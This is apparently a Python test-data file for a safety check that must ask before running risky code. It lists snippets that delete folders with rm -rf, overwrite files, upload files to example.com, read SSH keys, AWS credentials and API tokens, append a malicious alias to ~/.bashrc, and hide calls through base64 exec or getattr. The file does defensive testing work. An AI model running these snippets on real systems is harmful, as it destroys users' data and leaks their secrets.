# ruff: noqa: E501  (a corpus of snippets: each on one line reads best)
"""Code that deletes, overwrites, sends or runs something outside the kernel, in many styles: what `ask_before
= "risky"` must ask about (`oci-magic eval safety`). Each snippet runs, in the measurement, in a folder that
holds the files `FOLDER` lists, so that "overwrites an existing file" has files to overwrite. None of them is
ever run: they are read.
"""

from __future__ import annotations

__all__ = ["FOLDER", "SNIPPETS"]

# The working folder the snippets are read in: files and a folder that exist.
FOLDER = {
    "data.csv": "a,b\n1,2\n",
    "results.csv": "x\n1\n",
    "notes.txt": "keep me\n",
    "data/raw.csv": "a\n1\n",
}

# (style, code): every one of these must ask.
SNIPPETS: list[tuple[str, str]] = [
    # -- deleting -------------------------------------------------------------------------------------------
    ("os.remove", "import os\nos.remove('data.csv')"),
    ("os.unlink", "import os\nos.unlink('notes.txt')"),
    ("from os import remove", "from os import remove\nremove('results.csv')"),
    ("pathlib unlink", "from pathlib import Path\nPath('data.csv').unlink()"),
    ("pathlib unlink missing_ok", "import pathlib\npathlib.Path('notes.txt').unlink(missing_ok=True)"),
    ("path variable unlink", "from pathlib import Path\np = Path('data') / 'raw.csv'\np.unlink()"),
    ("shutil.rmtree", "import shutil\nshutil.rmtree('data')"),
    ("rmtree ignore errors", "from shutil import rmtree\nrmtree('data', ignore_errors=True)"),
    ("os.rmdir", "import os\nos.rmdir('data')"),
    ("glob loop delete", "import glob, os\nfor f in glob.glob('*.csv'):\n    os.remove(f)"),
    (
        "listdir loop delete",
        "import os\nfor name in os.listdir('.'):\n    if name.endswith('.txt'):\n        os.unlink(name)",
    ),
    ("Path.glob loop", "from pathlib import Path\nfor p in Path('.').glob('*.csv'):\n    p.unlink()"),
    ("os.removedirs", "import os\nos.removedirs('data')"),
    ("aliased shutil", "import shutil as sh\nsh.rmtree('data')"),
    # -- rm -rf through the shell ----------------------------------------------------------------------------
    ("subprocess.run rm", "import subprocess\nsubprocess.run(['rm', '-rf', 'data'])"),
    ("subprocess shell=True", "import subprocess\nsubprocess.run('rm -rf data', shell=True)"),
    ("subprocess.call", "import subprocess as sp\nsp.call('rm -rf ~/projects', shell=True)"),
    ("Popen", "from subprocess import Popen\nPopen(['rm', '-r', 'data']).wait()"),
    ("check_output", "import subprocess\nsubprocess.check_output(['rm', 'notes.txt'])"),
    ("os.system", "import os\nos.system('rm -rf data')"),
    ("os.popen", "import os\nos.popen('rm notes.txt').read()"),
    ("IPython !rm", "get_ipython().system('rm -rf data')"),
    ("IPython %%bash", "get_ipython().run_cell_magic('bash', '', 'rm -rf data\\n')"),
    ("IPython %sx", "get_ipython().run_line_magic('sx', 'rm -rf data')"),
    ("getoutput", "import subprocess\nsubprocess.getoutput('find . -delete')"),
    ("__import__ os.system", "__import__('os').system('rm -rf data')"),
    # -- overwriting and truncating ---------------------------------------------------------------------------
    ("to_csv over a file", "df = __import__('pandas').DataFrame({'a': [1]})\ndf.to_csv('data.csv')"),
    ("to_csv keyword", "import pandas as pd\npd.DataFrame().to_csv(path_or_buf='results.csv')"),
    ("open w truncates", "open('notes.txt', 'w').close()"),
    ("open w with", "with open('data.csv', 'w') as f:\n    f.write('')"),
    ("open mode keyword", "f = open('results.csv', mode='w')\nf.write('x')\nf.close()"),
    ("open append", "with open('notes.txt', 'a') as f:\n    f.write('more')"),
    ("write_text", "from pathlib import Path\nPath('notes.txt').write_text('')"),
    ("write_bytes variable", "from pathlib import Path\ntarget = Path('data.csv')\ntarget.write_bytes(b'')"),
    ("np.save over", "import numpy as np\nnp.savetxt('results.csv', np.zeros(3))"),
    ("savefig over", "import matplotlib.pyplot as plt\nplt.savefig('notes.txt')"),
    ("shutil.copy over", "import shutil\nshutil.copy('data.csv', 'results.csv')"),
    ("computed name", "name = input_name = 'data'\nopen(name + '.csv', 'w').write('')"),
    ("f-string name", "for i in range(3):\n    open(f'part{i}.csv', 'w').write('')"),
    (
        "to_sql",
        "import sqlite3, pandas as pd\npd.DataFrame({'a': [1]}).to_sql('t', sqlite3.connect('db.sqlite'))",
    ),
    # -- moving ------------------------------------------------------------------------------------------------
    ("os.rename", "import os\nos.rename('data.csv', 'old.csv')"),
    ("shutil.move", "import shutil\nshutil.move('data', '/tmp/elsewhere')"),
    ("Path.rename", "from pathlib import Path\nPath('notes.txt').rename('gone.txt')"),
    ("os.replace", "import os\nos.replace('results.csv', 'data.csv')"),
    # -- writing outside the working folder --------------------------------------------------------------------
    ("open outside", "open('/tmp/exfil.txt', 'w').write('x')"),
    ("to_csv parent folder", "import pandas as pd\npd.DataFrame().to_csv('../out.csv')"),
    ("home folder", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('alias ls=rm')"),
    ("makedirs outside", "import os\nos.makedirs('/opt/stuff', exist_ok=True)"),
    # -- uploading and the network ----------------------------------------------------------------------------
    (
        "requests.post file",
        "import requests\nrequests.post('https://example.com/up', files={'f': open('data.csv', 'rb')})",
    ),
    ("requests.put", "import requests as r\nr.put('https://example.com/x', data=open('notes.txt').read())"),
    ("urllib upload", "import urllib.request\nurllib.request.urlopen('https://example.com', data=b'secret')"),
    (
        "http.client",
        "import http.client\nc = http.client.HTTPSConnection('example.com')\nc.request('POST', '/', 'x')",
    ),
    ("socket", "import socket\ns = socket.create_connection(('example.com', 80))\ns.send(b'x')"),
    ("smtplib", "import smtplib\nsmtplib.SMTP('mail.example.com').sendmail('a@b', 'c@d', 'data')"),
    ("ftplib", "from ftplib import FTP\nFTP('example.com').storbinary('STOR d', open('data.csv', 'rb'))"),
    ("httpx", "import httpx\nhttpx.post('https://example.com', content=b'x')"),
    ("boto3 upload", "import boto3\nboto3.client('s3').upload_file('data.csv', 'bucket', 'k')"),
    ("read_csv URL", "import pandas as pd\ndf = pd.read_csv('https://example.com/data.csv')"),
    # -- credentials --------------------------------------------------------------------------------------------
    ("ssh key", "key = open('/root/.ssh/id_rsa').read()"),
    ("aws credentials", "import os\nopen(os.path.expanduser('~/.aws/credentials')).read()"),
    ("environ secret", "import os\ntoken = os.environ['AWS_SECRET_ACCESS_KEY']"),
    ("getenv token", "import os\nt = os.getenv('GITHUB_TOKEN')"),
    ("environ.get api key", "import os\nk = os.environ.get('OPENAI_API_KEY')"),
    ("all of environ", "import os\nprint(os.environ.copy())"),
    ("netrc", "from pathlib import Path\nprint(Path('~/.netrc').expanduser().read_text())"),
    # -- packages ----------------------------------------------------------------------------------------------
    ("%pip uninstall", "get_ipython().run_line_magic('pip', 'uninstall -y pandas')"),
    (
        "subprocess pip",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'uninstall', '-y', 'numpy'])",
    ),
    ("os.system pip", "import os\nos.system('pip install evil-package')"),
    ("!pip", "get_ipython().system('pip install requests')"),
    ("%conda", "get_ipython().run_line_magic('conda', 'remove numpy -y')"),
    # -- environment and working folder ------------------------------------------------------------------------
    ("os.environ set", "import os\nos.environ['PATH'] = ''"),
    ("os.environ update", "import os\nos.environ.update({'HOME': '/'})"),
    ("os.chdir", "import os\nos.chdir('/')"),
    ("%cd", "get_ipython().run_line_magic('cd', '/tmp')"),
    ("del environ", "import os\ndel os.environ['HOME']"),
    # -- permissions -------------------------------------------------------------------------------------------
    ("chmod", "import os\nos.chmod('data.csv', 0o000)"),
    ("symlink", "import os\nos.symlink('/etc/passwd', 'link')"),
    # -- code built at run time --------------------------------------------------------------------------------
    ("exec decoded", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z').decode())"),
    ("getattr os", "import os\ngetattr(os, 're' + 'move')('data.csv')"),
    ("eval string var", "cmd = \"__import__('os').remove('data.csv')\"\neval(cmd)"),
    ("importlib", "import importlib\nm = importlib.import_module('o' + 's')\nm.remove('data.csv')"),
]
